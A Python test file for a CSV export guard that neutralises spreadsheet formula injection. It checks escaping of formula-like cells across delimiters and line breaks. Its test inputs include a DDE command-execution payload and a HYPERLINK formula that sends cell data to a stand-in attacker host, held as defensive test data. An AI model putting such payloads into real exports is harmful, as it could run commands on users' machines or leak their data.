"""Spreadsheets calculate what looks like a formula: nothing in our CSV does."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.formats.csv import guarded

DANGEROUS = "=+-@＝＋－＠\t\r"


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?"&A1)',
        "+49 89 1234",
        "+cmd|x",
        "-2+3+cmd|x",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "-",
        "- Sperrung",
        "+1\n=1",
        "-1;=1+1",
    ],
)
def test_a_formula_becomes_text(cell):
    safe = guarded(cell)
    assert safe.startswith("'") or safe.startswith(" '")
    assert safe.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize(
    "cell", ["-5", "+5", "-0.5", "+1e5", "-1,5", "5", "", "Straße", "a=b", "a - b", "2026-03-01", "a, b"]
)
def test_numbers_and_words_stay_as_they_are(cell):
    assert guarded(cell) == cell


@pytest.mark.parametrize(
    "cell", ["Straße;=1+1", "Straße\n=1+1", "Straße\r\n@A1", "Straße;\t=1", "Straße; =1", 'Straße;"=1"']
)
def test_nor_does_one_begin_where_a_spreadsheet_splits_by_semicolon_or_line(cell):
    for part in re.split("[;\n\r\t]", guarded(cell)):
        assert not part.lstrip(' "').startswith(tuple(DANGEROUS)), part


@given(st.text(alphabet=st.sampled_from('=+-@"\t\r\n;, a1＝.e'), max_size=30))
def test_whatever_is_written_no_cell_calculates(cell):
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(["id", guarded(cell), "x"])
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=separator):
            for part in row:
                told = part.strip(' "')
                number = re.fullmatch(r"[+-]?[\d.,]*(e[+-]?\d+)?\r?", told)
                assert number or not told.startswith(tuple("=+-@＝")), (separator, row)


def test_a_long_run_of_line_ends_takes_no_time():
    assert len(guarded("\n" * 200_000)) < 500_000
